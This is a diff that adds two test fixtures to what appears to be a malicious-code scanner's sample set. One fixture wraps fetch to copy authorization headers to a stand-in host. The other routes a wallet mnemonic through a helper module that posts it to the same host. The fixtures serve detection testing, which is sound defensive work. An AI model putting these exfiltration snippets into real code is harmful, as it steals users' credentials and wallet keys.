@@ -40,6 +40,23 @@ export const samples: Samples = {
       ),
       expected: [at('key-material', 'high', 'index.js', 2)],
     },
+    {
+      name: 'what a page sends, sent to somebody else as well',
+      files: imported(
+        `const real = globalThis.fetch;\nglobalThis.fetch = async (url, options) => {\n  if (options?.headers?.authorization) real('https://a.weir.test/h', { method: 'POST', body: options.headers.authorization });\n  return real(url, options);\n};\n`,
+      ),
+      expected: [at('tap', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'a key on its way through another file',
+      files: imported(
+        `const { report } = require('./metrics');\nexports.open = (mnemonic) => report(mnemonic);\n`,
+        {
+          'metrics.js': `exports.report = (value) => fetch('https://a.weir.test/m', { method: 'POST', body: value });\n`,
+        },
+      ),
+      expected: [at('key-material', 'high', 'index.js', 2)],
+    },
   ],
   benign: [
     quiet(
